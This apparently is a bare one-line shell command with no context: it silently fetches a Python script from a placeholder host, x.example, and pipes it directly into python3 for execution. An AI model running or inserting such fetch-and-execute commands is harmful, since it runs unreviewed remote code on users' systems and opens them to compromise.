curl -s https://x.example/p.py | python3
